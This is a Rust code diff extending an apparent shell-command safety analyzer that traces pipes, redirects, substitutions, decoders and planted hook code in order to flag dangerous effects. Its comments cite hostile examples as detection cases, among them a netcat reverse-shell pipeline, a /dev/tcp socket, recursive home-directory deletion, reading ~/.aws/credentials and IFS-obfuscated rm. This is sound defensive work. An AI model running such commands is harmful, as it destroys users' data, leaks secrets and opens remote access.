@@ -15,10 +15,13 @@
 //! before parsing, parsing runs on a thread with a large stack, and a wall-clock limit ends
 //! the analysis with a `parser-failure` note (deny).
 
+use super::effects::{Effect, Source};
 use super::path;
+use super::programs::ProgramTable;
 use brush_parser::ast;
 use brush_parser::word::{self, WordPiece, WordPieceWithSource};
 use std::collections::HashMap;
+use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::mpsc;
 use std::time::Duration;
@@ -45,6 +48,8 @@ pub struct Env {
     pub cwd: Option<String>,
     pub home: Option<String>,
     pub tmpdir: String,
+    /// How programs read their arguments and what they do (rules/programs.toml).
+    pub programs: Arc<ProgramTable>,
 }
 
 /// One word after quote removal and the expansions that can be known.
@@ -53,6 +58,8 @@ pub struct Arg {
     pub text: String,
     /// Part of the word is only known at run time (`$VAR`, `$(...)`, `{}` in xargs).
     pub dynamic: bool,
+    /// The word holds an unquoted `*`, `?` or `[`: the shell expands it to matching paths.
+    pub glob: bool,
 }
 
 impl Arg {
@@ -60,6 +67,15 @@ impl Arg {
         Self {
             text: text.into(),
             dynamic: false,
+            glob: false,
+        }
+    }
+
+    pub fn dynamic(text: impl Into<String>) -> Self {
+        Self {
+            text: text.into(),
+            dynamic: true,
+            glob: false,
         }
     }
 }
@@ -67,7 +83,10 @@ impl Arg {
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum RedirectKind {
     Read,
+    /// `>`, `>|`, `&>`: the file is truncated first.
     Write,
+    /// `>>`: written at the end.
+    Append,
 }
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -100,6 +119,18 @@ pub struct Command {
     pub args_from_stdin: bool,
     /// How this command was reached, outermost first: `bash -c`, `$(...)`, `find -exec`.
     pub via: Vec<String>,
+    /// The program word as a path, when it names one (`./install.sh`, `/tmp/x`).
+    pub program_path: Option<String>,
+    /// What `{}` or run-time arguments stand for, when known: find's starting points
+    /// (`find ~ -exec rm {} +`), paths piped into xargs. Each is recursive (find descends).
+    pub placeholder: Vec<Arg>,
+    /// Where the command runs when not here: `ssh prod-db`, `kubectl -n production`.
+    pub remote: Vec<String>,
+    /// What the code or data on its input is, when known (downloaded, decoded).
+    pub fed_source: Option<Source>,
+    /// Inferred from an unknown program's arguments (`with-retry rm -rf ~`): it may not
+    /// run at all, so its effects are uncertain.
+    pub speculative: bool,
 }
 
 impl Command {
@@ -122,6 +153,7 @@ impl Command {
             out.push_str(match r.kind {
                 RedirectKind::Read => " <",
                 RedirectKind::Write => " >",
+                RedirectKind::Append => " >>",
             });
             out.push_str(&r.target.text);
         }
@@ -181,6 +213,26 @@ pub struct Note {
 pub struct Analysis {
     pub commands: Vec<Command>,
     pub notes: Vec<Note>,
+    /// What the commands do, each naming its command (see [`super::effects`]).
+    pub effects: Vec<Effect>,
+}
+
+impl Analysis {
+    /// Append another analysis (planted code from a second snippet), keeping each effect's
+    /// command index pointing at its own command.
+    pub fn merge(&mut self, other: Analysis) {
+        let offset = self.commands.len();
+        self.commands.extend(other.commands);
+        for mut e in other.effects {
+            e.command = e.command.map(|i| i + offset);
+            self.effects.push(e);
+        }
+        for n in other.notes {
+            if !self.notes.contains(&n) {
+                self.notes.push(n);
+            }
+        }
+    }
 }
 
 static INLINE: AtomicBool = AtomicBool::new(false);
@@ -196,8 +248,8 @@ pub fn parse_inline() {
 pub fn analyze(script: &str, env: &Env) -> Analysis {
     if let Some(note) = refuse_before_parsing(script) {
         return Analysis {
-            commands: Vec::new(),
             notes: vec![note],
+            ..Default::default()
         };
     }
     // brush-parser can take exponential time on nested brackets well inside the bounds
@@ -220,11 +272,11 @@ pub fn analyze(script: &str, env: &Env) -> Analysis {
             let _ = tx.send(analyze_now(&owned_script, &owned_env));
         });
     let failure = |detail: &str| Analysis {
-        commands: Vec::new(),
         notes: vec![Note {
             kind: NoteKind::ParserFailure,
             detail: detail.to_string(),
         }],
+        ..Default::default()
     };
     if spawned.is_err() {
         return failure("could not start the parser thread");
@@ -241,27 +293,33 @@ pub fn analyze(script: &str, env: &Env) -> Analysis {
 pub fn analyze_now(script: &str, env: &Env) -> Analysis {
     let mut analyzer = Analyzer::new(env);
     analyzer.script(script, None, false);
-    Analysis {
-        commands: analyzer.commands,
-        notes: analyzer.notes,
-    }
+    analyzer.finish()
 }
 
-/// Split a PowerShell command line into commands without a real parser: enough for
-/// program-name rules. Every command gets a `via` of `powershell`.
+/// Analyse a PowerShell command line (see [`powershell`]): its cmdlets and aliases map to
+/// the same effects as their bash counterparts.
 pub fn analyze_powershell(script: &str, env: &Env) -> Analysis {
-    let mut analyzer = Analyzer::new(env);
-    analyzer.via.push("powershell".into());
-    for words in rough_split(script) {
-        analyzer.emit(Command {
-            args: words,
+    if script.len() > MAX_SCRIPT_BYTES {
+        return Analysis {
+            notes: vec![Note {
+                kind: NoteKind::TooComplex,
+                detail: format!("command is longer than {MAX_SCRIPT_BYTES} bytes"),
+            }],
             ..Default::default()
-        });
+        };
     }
-    Analysis {
-        commands: analyzer.commands,
-        notes: analyzer.notes,
-    }
+    let mut analyzer = Analyzer::new(env);
+    analyzer.powershell(script);
+    analyzer.finish()
+}
+
+/// Analyse code planted in a file that runs later (a shell rc file, a git hook, a
+/// package script), as if it ran now; `via` names the file.
+pub fn analyze_planted(code: &str, via: &str, env: &Env) -> Analysis {
+    let mut analyzer = Analyzer::new(env);
+    analyzer.quiet = true;
+    analyzer.script(code, Some(via), true);
+    analyzer.finish()
 }
 
 fn refuse_before_parsing(script: &str) -> Option<Note> {
@@ -476,11 +534,16 @@ struct PipeInput {
     programs: Vec<String>,
     /// The text itself, when a stage only prints literals (`echo`, `printf`, heredoc `cat`).
     text: Option<String>,
+    /// Paths a stage prints (`find ~`, `ls -d x`): what xargs turns into arguments.
+    paths: Vec<Arg>,
+    /// What the stage's output is when it is not plain data: downloaded, decoded.
+    source: Option<Source>,
 }
 
 struct Analyzer {
     home: Option<String>,
     tmpdir: String,
+    programs: Arc<ProgramTable>,
     cwd: Option<String>,
     /// Variables assigned earlier in the script: `Some` known value, `None` unknown.
     vars: HashMap<String, Option<String>>,
@@ -495,6 +558,29 @@ struct Analyzer {
     quiet: bool,
     /// Programs run by substitutions in the words expanded since the last drain.
     word_fed: Vec<String>,
+    effects: Vec<Effect>,
+    /// Files this command line writes, with where their content comes from: `curl -o f`
+    /// (network), `base64 -d > f` (decoded), `echo 'code' > f` (the code itself).
+    written: std::collections::HashMap<String, Written>,
+    /// Symbolic links made earlier in the command line: link -> target.
+    links: Vec<(String, String)>,
+    /// Where commands run when not here (`ssh host '...'`), innermost last.
+    remote: Vec<String>,
+    /// Inside an unknown program's arguments read as a command.
+    speculative: bool,
+    /// Process substitutions seen, to name each one's `/dev/fd` path.
+    procsubs: usize,
+    /// git aliases defined earlier (`git config alias.x '...'`, `git -c alias.x=...`).
+    git_aliases: std::collections::HashMap<String, String>,
+}
+
+/// What a file written earlier in the same command line holds.
+#[derive(Debug, Clone)]
+pub(crate) enum Written {
+    /// Known text (`echo 'rm -rf ~' > x.sh`).
+    Text(String),
+    /// Content from somewhere not visible: the network, a decoder.
+    From(Source),
 }
 
 impl Analyzer {
@@ -502,6 +588,7 @@ impl Analyzer {
         Self {
             home: env.home.clone(),
             tmpdir: env.tmpdir.clone(),
+            programs: env.programs.clone(),
             cwd: env.cwd.clone(),
             vars: HashMap::new(),
             commands: Vec::new(),
@@ -512,6 +599,21 @@ impl Analyzer {
             pipe: None,
             quiet: false,
             word_fed: Vec::new(),
+            effects: Vec::new(),
+            written: std::collections::HashMap::new(),
+            links: Vec::new(),
+            remote: Vec::new(),
+            speculative: false,
+            procsubs: 0,
+            git_aliases: std::collections::HashMap::new(),
+        }
+    }
+
+    fn finish(self) -> Analysis {
+        Analysis {
+            commands: self.commands,
+            notes: self.notes,
+            effects: self.effects,
         }
     }
 
@@ -616,6 +718,7 @@ impl Analyzer {
     }
 
     fn pipeline(&mut self, pipeline: &ast::Pipeline) {
+        let first_command = self.commands.len();
         let outer = self.pipe.take();
         let mut input: Option<PipeInput> = outer.clone();
         for stage in &pipeline.seq {
@@ -623,7 +726,11 @@ impl Analyzer {
             let before = self.commands.len();
             self.command(stage);
             let programs = self.programs_since(before);
-            let text = self.printed_text(before);
+            let stage = &self.commands[before.min(self.commands.len())..];
+            let (text, paths) = match stage {
+                [cmd] => (printed_text(cmd), self.printed_paths(cmd)),
+                _ => (None, Vec::new()),
+            };
             let mut next = self.pipe.take().unwrap_or_default();
             for p in programs {
                 if !next.programs.contains(&p) {
@@ -631,55 +738,87 @@ impl Analyzer {
                 }
             }
             next.text = text;
+            next.paths = paths;
+            next.source = next.source.max(self.stage_source(before));
             input = Some(next);
         }
         self.pipe = outer;
+        self.reverse_shell(first_command);
     }
 
-    /// The literal text a stage prints, if it only echoes literals.
-    fn printed_text(&self, before: usize) -> Option<String> {
-        let stage = &self.commands[before.min(self.commands.len())..];
-        let [cmd] = stage else { return None };
+    /// What the commands since `before` print, when it is code from somewhere unseen: a
+    /// downloader's output, a decoder's, a file this command line downloaded.
+    fn stage_source(&self, before: usize) -> Option<Source> {
+        let mut source = None;
+        for (i, cmd) in self.commands.iter().enumerate().skip(before) {
+            source = source.max(self.classify(std::slice::from_ref(&cmd.program)));
+            // `openssl s_client` prints the network; `openssl x509` does not.
+            let parsed = self.programs.parse(&cmd.program, &cmd.args);
+            source = source.max(self.programs.spec_of(&parsed).output);
+            if passes_through(&cmd.program) {
+                source = source.max(cmd.fed_source);
+            }
+            for e in self
+                .effects
+                .iter()
+                .filter(|e| e.command == Some(i) && e.kind == super::effects::Kind::Read)
+            {
+                if let super::effects::Target::Path(p) = &e.target
+                    && let Some(Written::From(s)) = self.written_at(p)
+                {
+                    source = source.max(Some(s));
+                }
+            }
+        }
+        source
+    }
+
+    /// `cat f | sh -i 2>&1 | nc host port > f`: a shell reading stdin in the same pipeline
+    /// as a network client is a shell served over the network.
+    fn reverse_shell(&mut self, first_command: usize) {
+        let stages = &self.commands[first_command.min(self.commands.len())..];
+        let net = stages
+            .iter()
+            .any(|c| self.classify(std::slice::from_ref(&c.program)) == Some(Source::Network));
+        if !net {
+            return;
+        }
+        let shells: Vec<usize> = stages
+            .iter()
+            .enumerate()
+            .filter(|(_, c)| {
+                wrappers::SHELLS.contains(&c.program.as_str())
+                    && c.args
+                        .iter()
+                        .all(|a| a.text.starts_with('-') && !a.text.contains('c'))
+            })
+            .map(|(i, _)| first_command + i)
+            .collect();
+        for index in shells {
+            let effect = Effect::new(
+                super::effects::Kind::Exec,
+                super::effects::Target::None,
+                "shell piped to a network client",
+            )
+            .from_source(Source::Network);
+            self.push_effect(index, effect);
+        }
+    }
+
+    /// Paths a stage prints, for xargs: find's starting points (everything under them),
+    /// `ls -d` operands, echoed words.
+    fn printed_paths(&self, cmd: &Command) -> Vec<Arg> {
         match cmd.program.as_str() {
-            "echo" => {
-                let words: Vec<&str> = cmd
-                    .args
-                    .iter()
-                    .filter(|a| !matches!(a.text.as_str(), "-n" | "-e" | "-E"))
-                    .map(|a| a.text.as_str())
-                    .collect();
-                Some(words.join(" ").replace("\\n", "\n"))
-            }
-            "printf" => {
-                // `printf '%s' 'rm -rf /'`: apply the format crudely (each %s, %b, %d takes
-                // the next argument).
-                let mut args = cmd.args.iter().map(|a| a.text.as_str());
-                let format = args.next()?;
-                let mut text = String::new();
-                let mut rest = format;
-                while let Some(pos) = rest.find('%') {
-                    text.push_str(&rest[..pos]);
-                    let spec = rest[pos + 1..].chars().next();
-                    match spec {
-                        Some('%') => text.push('%'),
-                        Some(_) => text.push_str(args.next().unwrap_or("")),
-                        None => {}
-                    }
-                    rest = rest
-                        .get(pos + 1 + spec.map_or(0, char::len_utf8)..)
-                        .unwrap_or("");
-                }
-                text.push_str(rest);
-                for extra in args {
-                    text.push(' ');
-                    text.push_str(extra);
-                }
-                Some(text.replace("\\n", "\n"))
-            }
-            "cat" if cmd.args.is_empty() && !cmd.stdin_text.is_empty() => {
-                Some(cmd.stdin_text.clone())
-            }
-            _ => None,
+            "find" | "fd" | "fdfind" => find_targets(cmd),
+            "ls" => cmd
+                .args
+                .iter()
+                .filter(|a| !a.text.starts_with('-'))
+                .cloned()
+                .collect(),
+            _ => printed_text(cmd)
+                .map(|t| t.split_whitespace().map(Arg::literal).collect())
+                .unwrap_or_default(),
         }
     }
 
@@ -773,10 +912,19 @@ impl Analyzer {
             self.redirect(r, &mut cmd);
         }
         if !cmd.redirects.is_empty() {
-            cmd.cwd = self.cwd.clone();
-            cmd.via = self.via.clone();
-            self.commands.push(cmd);
+            self.push_redirect_only(cmd);
         }
+    }
+
+    /// A command that is only redirections (`> f`, `done < f`): the shell does the work.
+    fn push_redirect_only(&mut self, mut cmd: Command) {
+        cmd.cwd = self.cwd.clone();
+        cmd.via = self.via.clone();
+        cmd.remote = self.remote.clone();
+        cmd.speculative = self.speculative;
+        let index = self.commands.len();
+        self.commands.push(cmd);
+        self.command_effects(index);
     }
 
     fn simple(&mut self, simple: &ast::SimpleCommand) {
@@ -797,6 +945,7 @@ impl Analyzer {
                             Arg {
                                 text: word.value.clone(),
                                 dynamic: true,
+                                glob: false,
                             }
                         }
                     };
@@ -840,9 +989,7 @@ impl Analyzer {
                 self.vars.insert(name, known);
             }
             if !cmd.redirects.is_empty() {
-                cmd.cwd = self.cwd.clone();
-                cmd.via = self.via.clone();
-                self.commands.push(cmd);
+                self.push_redirect_only(cmd);
             }
             return;
         }
@@ -871,20 +1018,50 @@ impl Analyzer {
                     ast::ProcessSubstitutionKind::Read => "<(...)",
                     ast::ProcessSubstitutionKind::Write => ">(...)",
                 };
-                let programs = self.subshell_code(&sub.list, via);
+                // `tee >(sh)`: what the command reads (tee copies it) reaches the code inside.
+                let feeds = matches!(kind, ast::ProcessSubstitutionKind::Write)
+                    .then(|| self.pipe.clone())
+                    .flatten();
+                let before = self.commands.len();
+                let programs = self.subshell_code_fed(&sub.list, via, feeds);
                 cmd.fed_by.extend(programs);
-                words.push(Arg {
-                    text: via.to_string(),
-                    dynamic: true,
-                });
+                let path = self.procsub_path(before);
+                words.push(Arg::literal(path));
             }
         }
     }
 
+    /// `<(...)` is a file (`/dev/fd/63`) holding what its commands print: known text, or
+    /// output from the network or a decoder. Later `sh /dev/fd/63` reads it back.
+    fn procsub_path(&mut self, before: usize) -> String {
+        let path = format!("/dev/fd/{}", 63usize.saturating_sub(self.procsubs));
+        self.procsubs += 1;
+        let stage = &self.commands[before.min(self.commands.len())..];
+        let content = match stage {
+            [only] => printed_text(only).map(Written::Text),
+            _ => None,
+        }
+        .or_else(|| self.stage_source(before).map(Written::From));
+        if let Some(content) = content {
+            self.written.insert(path.clone(), content);
+        }
+        path
+    }
+
     /// Walk code given as an AST list (process substitution), as a subshell.
     fn subshell_code(&mut self, list: &ast::CompoundList, via: &str) -> Vec<String> {
+        self.subshell_code_fed(list, via, None)
+    }
+
+    fn subshell_code_fed(
+        &mut self,
+        list: &ast::CompoundList,
+        via: &str,
+        input: Option<PipeInput>,
+    ) -> Vec<String> {
         let before = self.commands.len();
         let saved = (self.cwd.clone(), self.vars.clone(), self.pipe.take());
+        self.pipe = input;
         self.via.push(via.to_string());
         self.compound_list(list);
         self.via.pop();
@@ -898,10 +1075,38 @@ impl Analyzer {
             ast::IoRedirect::File(_, kind, target) => {
                 let kind = match kind {
                     K::Read => RedirectKind::Read,
-                    K::Write | K::Append | K::Clobber | K::ReadAndWrite => RedirectKind::Write,
+                    K::Append => RedirectKind::Append,
+                    K::Write | K::Clobber => RedirectKind::Write,
+                    // `<>`: opened for both; a socket (`exec 5<>/dev/tcp/h/p`) is read too.
+                    K::ReadAndWrite => {
+                        if let ast::IoFileRedirectTarget::Filename(w) = target {
+                            let target = self.expand(w);
+                            cmd.redirects.push(Redirect {
+                                kind: RedirectKind::Read,
+                                target: target.clone(),
+                            });
+                            cmd.redirects.push(Redirect {
+                                kind: RedirectKind::Append,
+                                target,
+                            });
+                        }
+                        return;
+                    }
                     K::DuplicateInput | K::DuplicateOutput => {
+                        // `>& file` (not `>&2`): stdout and stderr to a file.
                         if let ast::IoFileRedirectTarget::Duplicate(w) = target {
-                            self.expand(w);
+                            let arg = self.expand(w);
+                            let fd = arg.text.chars().all(|c| c.is_ascii_digit() || c == '-');
+                            if !fd {
+                                cmd.redirects.push(Redirect {
+                                    kind: if matches!(kind, K::DuplicateInput) {
+                                        RedirectKind::Read
+                                    } else {
+                                        RedirectKind::Write
+                                    },
+                                    target: arg,
+                                });
+                            }
                         }
                         return;
                     }
@@ -921,10 +1126,14 @@ impl Analyzer {
                     ast::IoFileRedirectTarget::Fd(_) => {}
                 }
             }
-            ast::IoRedirect::OutputAndError(w, _) => {
+            ast::IoRedirect::OutputAndError(w, append) => {
                 let target = self.expand(w);
                 cmd.redirects.push(Redirect {
-                    kind: RedirectKind::Write,
+                    kind: if *append {
+                        RedirectKind::Append
+                    } else {
+                        RedirectKind::Write
+                    },
                     target,
                 });
             }
@@ -979,7 +1188,11 @@ impl Analyzer {
             .map(|a| a.text)
             .collect::<Vec<_>>()
             .join(" ");
-        Arg { text, dynamic }
+        Arg {
+            text,
+            dynamic,
+            glob: false,
+        }
     }
 
     /// Expand a command word as bash does: brace expansion, then quote removal and the
@@ -1006,6 +1219,7 @@ impl Analyzer {
                 args = vec![Arg {
                     text: raw.to_string(),
                     dynamic: true,
+                    glob: false,
                 }];
             }
         }
@@ -1039,7 +1253,16 @@ impl Analyzer {
                 }
             };
             match &piece.piece {
-                WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => push(out, s, false),
+                WordPiece::Text(s) => {
+                    push(out, s, false);
+                    if !quoted
+                        && s.contains(['*', '?', '['])
+                        && let Some(last) = out.last_mut()
+                    {
+                        last.glob = true;
+                    }
+                }
+                WordPiece::SingleQuotedText(s) => push(out, s, false),
                 WordPiece::AnsiCQuotedText(s) => push(out, &decode_ansi_c(s), false),
                 WordPiece::EscapeSequence(s) => push(out, s.strip_prefix('\\').unwrap_or(s), false),
                 WordPiece::DoubleQuotedSequence(inner)
@@ -1052,20 +1275,14 @@ impl Analyzer {
                         let cwd = self.cwd.clone().unwrap_or_default();
                         push(out, &cwd, false);
                     }
+                    (word::TildeExpr::UserHome(user), _) => {
+                        let home = user_home(user, self.home.as_deref());
+                        push(out, &home, false);
+                    }
                     _ => push(out, source, true),
                 },
                 WordPiece::ParameterExpansion(expr) => match self.known_parameter(expr) {
-                    Some(value) if !quoted && value.contains([' ', '\t', '\n']) => {
-                        // Field splitting: `x="rm -rf /"; $x` runs rm with two arguments.
-                        let mut parts = value.split([' ', '\t', '\n']).filter(|p| !p.is_empty());
-                        if let Some(first) = parts.next() {
-                            push(out, first, false);
-                        }
-                        for part in parts {
-                            out.push(Arg::literal(part));
-                        }
-                    }
-                    Some(value) => push(out, &value, false),
+                    Some(value) => self.push_split(out, &value, quoted),
                     None => {
                         push(out, source, true);
                         // `${x:-$(cmd)}` hides a substitution in the expansion's text.
@@ -1075,9 +1292,21 @@ impl Analyzer {
                 },
                 WordPiece::CommandSubstitution(code)
                 | WordPiece::BackquotedCommandSubstitution(code) => {
+                    let before = self.commands.len();
                     let programs = self.script(code, Some("$(...)"), false);
                     self.word_fed.extend(programs);
-                    push(out, source, true);
+                    // `$(echo rm)`, `$(printf '%s' ~/.aws/credentials)`: the output is known.
+                    let printed = match &self.commands[before.min(self.commands.len())..] {
+                        [only] => printed_text(only),
+                        _ => None,
+                    };
+                    match printed {
+                        Some(text) => {
+                            let text = text.trim_end_matches('\n').to_string();
+                            self.push_split(out, &text, quoted);
+                        }
+                        None => push(out, source, true),
+                    }
                 }
                 WordPiece::ArithmeticExpression(expr) => {
                     let programs = self.hidden_substitutions(&expr.value.clone());
@@ -1085,6 +1314,28 @@ impl Analyzer {
                     push(out, source, true);
                 }
             }
+        }
+    }
+
+    /// Append an expansion's value to the last word; unquoted, it splits on blanks the way
+    /// bash's field splitting does (`x="rm -rf /"; $x`, `rm${IFS}-rf${IFS}/`).
+    fn push_split(&self, out: &mut Vec<Arg>, value: &str, quoted: bool) {
+        let append = |out: &mut Vec<Arg>, text: &str| {
+            if let Some(last) = out.last_mut() {
+                last.text.push_str(text);
+            }
+        };
+        if quoted || !value.contains([' ', '\t', '\n']) {
+            append(out, value);
+            return;
+        }
+        let mut first = true;
+        for part in value.split([' ', '\t', '\n']) {
+            if !first {
+                out.push(Arg::literal(""));
+            }
+            append(out, part);
+            first = false;
         }
     }
 
@@ -1100,10 +1351,14 @@ impl Analyzer {
         if self.vars.contains_key("IFS") {
             return None;
         }
+        if name == "IFS" {
+            return Some(" \t\n".into());
+        }
         if let Some(assigned) = self.vars.get(name) {
             return assigned.clone();
         }
         match name.as_str() {
+            "IFS" => Some(" \t\n".into()),
             "HOME" => self.home.clone(),
             "PWD" => self.cwd.clone(),
             "TMPDIR" => Some(self.tmpdir.clone()),
@@ -1120,6 +1375,276 @@ impl Analyzer {
         }
         programs
     }
+}
+
+/// The literal text a command prints, if it only prints literals (`echo`, `printf`, a
+/// heredoc into `cat`), with escapes interpreted the way the program does.
+pub(crate) fn printed_text(cmd: &Command) -> Option<String> {
+    if cmd.args.iter().any(|a| a.dynamic) {
+        return None;
+    }
+    match cmd.program.as_str() {
+        "echo" => {
+            let mut escapes = false;
+            let mut words: Vec<&str> = Vec::new();
+            let mut options = true;
+            for a in &cmd.args {
+                let t = a.text.as_str();
+                if options
+                    && t.len() > 1
+                    && t.starts_with('-')
+                    && t[1..].chars().all(|c| "neE".contains(c))
+                {
+                    escapes |= t.contains('e');
+                    continue;
+                }
+                options = false;
+                words.push(t);
+            }
+            let text = words.join(" ");
+            Some(if escapes {
+                decode_printf_escapes(&text)
+            } else {
+                // Conservative: `sh` reading this may be dash, whose echo reads `\n`.
+                text.replace("\\n", "\n")
+            })
+        }
+        "printf" => {
+            // Apply the format: each conversion takes the next argument (`%b` decodes its
+            // escapes); the format repeats while arguments remain.
+            let mut args = cmd.args.iter().map(|a| a.text.as_str());
+            let mut format = args.next()?;
+            if format == "--" {
+                format = args.next()?;
+            }
+            let rest: Vec<&str> = args.collect();
+            let mut text = String::new();
+            let mut used = 0;
+            for _ in 0..64 {
+                let mut chunk = String::new();
+                let mut chars = format.chars().peekable();
+                let mut converted = false;
+                while let Some(c) = chars.next() {
+                    if c != '%' {
+                        chunk.push(c);
+                        continue;
+                    }
+                    // Skip flags, width and precision.
+                    while chars.peek().is_some_and(|d| "-+ #0123456789.".contains(*d)) {
+                        chars.next();
+                    }
+                    match chars.next() {
+                        Some('%') => chunk.push('%'),
+                        Some('b') => {
+                            converted = true;
+                            chunk.push_str(&decode_printf_escapes(
+                                rest.get(used).copied().unwrap_or(""),
+                            ));
+                            used += 1;
+                        }
+                        Some(_) => {
+                            converted = true;
+                            chunk.push_str(rest.get(used).copied().unwrap_or(""));
+                            used += 1;
+                        }
+                        None => {}
+                    }
+                }
+                text.push_str(&decode_printf_escapes(&chunk));
+                if !converted || used >= rest.len() {
+                    break;
+                }
+            }
+            Some(text)
+        }
+        "cat" | "tee"
+            if cmd
+                .args
+                .iter()
+                .all(|a| a.text.starts_with('-') || cmd.program == "tee")
+                && !cmd.stdin_text.is_empty() =>
+        {
+            Some(cmd.stdin_text.clone())
+        }
+        _ if cmd.stdin_text.is_empty() => None,
+        // Decoders with known input: their output is known too.
+        "base64" | "openssl"
+            if cmd
+                .args
+                .iter()
+                .any(|a| matches!(a.text.as_str(), "-d" | "--decode" | "-D" | "-di" | "-id")) =>
+        {
+            decode_base64(&cmd.stdin_text)
+        }
+        "xxd" if cmd.args.iter().any(|a| a.text.starts_with("-r")) => decode_hex(&cmd.stdin_text),
+        "rev" => Some(
+            cmd.stdin_text
+                .lines()
+                .map(|l| l.chars().rev().collect::<String>())
+                .collect::<Vec<_>>()
+                .join("\n"),
+        ),
+        "tr" => match cmd.args.as_slice() {
+            [a, b] if !a.text.starts_with('-') => tr_map(&cmd.stdin_text, &a.text, &b.text),
+            _ => None,
+        },
+        _ => None,
+    }
+}
+
+/// Backslash escapes as printf's format and `echo -e` read them: `\n`, `\x72`, `\162`,
+/// `\0162`, `\u0072`.
+pub fn decode_printf_escapes(s: &str) -> String {
+    if !s.contains('\\') {
+        return s.to_string();
+    }
+    // printf also takes `\0NNN`; bash's $'...' takes `\NNN`: read a leading 0 as part of up
+    // to three more octal digits.
+    let mut normalized = String::with_capacity(s.len());
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
+        normalized.push(c);
+        if c == '\\' {
+            match chars.peek() {
+                Some('0') => {
+                    chars.next();
+                    let mut digits = String::new();
+                    while digits.len() < 3 && chars.peek().is_some_and(|d| d.is_digit(8)) {
+                        digits.push(chars.next().unwrap_or('0'));
+                    }
+                    if digits.is_empty() {
+                        normalized.push('0');
+                    } else {
+                        normalized.push_str(&format!("{:03}", digits));
+                    }
+                }
+                Some('\\') => {
+                    normalized.push('\\');
+                    chars.next();
+                }
+                _ => {}
+            }
+        }
+    }
+    decode_ansi_c(&normalized)
+}
+
+/// `~name`: the home directory of another user. The own user's name maps to HOME; root's
+/// home is /root; others are assumed under the same parent as HOME (`/home/NAME`).
+fn user_home(user: &str, home: Option<&str>) -> String {
+    if user == "root" {
+        return "/root".into();
+    }
+    match home.and_then(|h| h.rsplit_once('/')) {
+        Some((parent, name)) if name == user => format!("{parent}/{name}"),
+        Some((parent, _)) if !parent.is_empty() => format!("{parent}/{user}"),
+        _ => format!("/home/{user}"),
+    }
+}
+
+/// find's tests that select some entries (without them, find visits every entry and the
+/// starting points themselves).
+const FIND_TESTS: &[&str] = &[
+    "-name",
+    "-iname",
+    "-path",
+    "-ipath",
+    "-wholename",
+    "-iwholename",
+    "-regex",
+    "-iregex",
+    "-type",
+    "-xtype",
+    "-newer",
+    "-newermt",
+    "-anewer",
+    "-cnewer",
+    "-user",
+    "-group",
+    "-nouser",
+    "-nogroup",
+    "-perm",
+    "-size",
+    "-empty",
+    "-mtime",
+    "-mmin",
+    "-atime",
+    "-amin",
+    "-ctime",
+    "-cmin",
+    "-used",
+    "-uid",
+    "-gid",
+    "-inum",
+    "-links",
+    "-samefile",
+    "-lname",
+    "-ilname",
+    "-mindepth",
+    "-readable",
+    "-writable",
+    "-executable",
+    "-fstype",
+    "-context",
+];
+
+/// What find's `-delete` or `-exec ... {}` acts on: everything under each starting point,
+/// and the starting points themselves unless a test selects entries (`-name '*.pyc'`).
+pub(crate) fn find_targets(cmd: &Command) -> Vec<Arg> {
+    let filtered = cmd
+        .args
+        .iter()
+        .any(|a| FIND_TESTS.contains(&a.text.as_str()));
+    // One `-name PATTERN` and no `-o`: only entries with that name.
+    let names: Vec<&Arg> = cmd
+        .args
+        .windows(2)
+        .filter(|w| matches!(w[0].text.as_str(), "-name" | "-iname"))
+        .map(|w| &w[1])
+        .collect();
+    let alternatives = cmd
+        .args
+        .iter()
+        .any(|a| matches!(a.text.as_str(), "-o" | "-or" | "!" | "-not"));
+    let name = match names.as_slice() {
+        [one] if !alternatives && !one.dynamic && !one.text.contains('/') => Some(one.text.clone()),
+        _ => None,
+    };
+    let mut out = Vec::new();
+    for start in find_starts(cmd) {
+        let base = start.text.trim_end_matches('/');
+        out.push(Arg {
+            text: match &name {
+                Some(n) => format!("{base}/**/{n}"),
+                None => format!("{base}/**"),
+            },
+            glob: true,
+            ..start.clone()
+        });
+        if !filtered {
+            out.push(start);
+        }
+    }
+    out
+}
+
+/// find's starting points: its operands before the first expression word.
+pub(crate) fn find_starts(cmd: &Command) -> Vec<Arg> {
+    let mut out = Vec::new();
+    for a in &cmd.args {
+        let t = a.text.as_str();
+        if matches!(t, "-H" | "-L" | "-P") || t.starts_with("-O") || t.starts_with("-D") {
+            continue;
+        }
+        if t.starts_with('-') || t == "(" || t == "!" || t == "," {
+            break;
+        }
+        out.push(a.clone());
+    }
+    if out.is_empty() {
+        out.push(Arg::literal("."));
+    }
+    out
 }
 
 fn parser_options() -> brush_parser::ParserOptions {
@@ -1442,6 +1967,138 @@ pub(crate) fn resolve_arg(arg: &Arg, cwd: Option<&str>, home: Option<&str>) -> O
     path::resolve(&arg.text, cwd, home)
 }
 
+/// Filters whose output is (a transformation of) their input.
+fn passes_through(program: &str) -> bool {
+    matches!(
+        program,
+        "cat"
+            | "tee"
+            | "dd"
+            | "sed"
+            | "tr"
+            | "head"
+            | "tail"
+            | "sort"
+            | "uniq"
+            | "grep"
+            | "cut"
+            | "awk"
+            | "pv"
+    )
+}
+
+/// Words of a short command line, quotes removed (git alias definitions).
+fn rough_words(text: &str) -> Vec<Arg> {
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut quote: Option<char> = None;
+    let mut any = false;
+    for c in text.chars() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => current.push(c),
+            None if c == '\'' || c == '"' => {
+                quote = Some(c);
+                any = true;
+            }
+            None if c.is_whitespace() => {
+                if !current.is_empty() || any {
+                    words.push(Arg::literal(std::mem::take(&mut current)));
+                }
+                any = false;
+            }
+            None => current.push(c),
+        }
+    }
+    if !current.is_empty() || any {
+        words.push(Arg::literal(current));
+    }
+    words
+}
+
+/// Standard or URL-safe base64, padding optional; None if it is not base64.
+pub(crate) fn decode_base64_bytes(text: &str) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(text.len() * 3 / 4);
+    let mut buffer = 0u32;
+    let mut bits = 0;
+    let mut seen = 0;
+    for c in text.bytes() {
+        let v = match c {
+            b'A'..=b'Z' => c - b'A',
+            b'a'..=b'z' => c - b'a' + 26,
+            b'0'..=b'9' => c - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            b'=' => break,
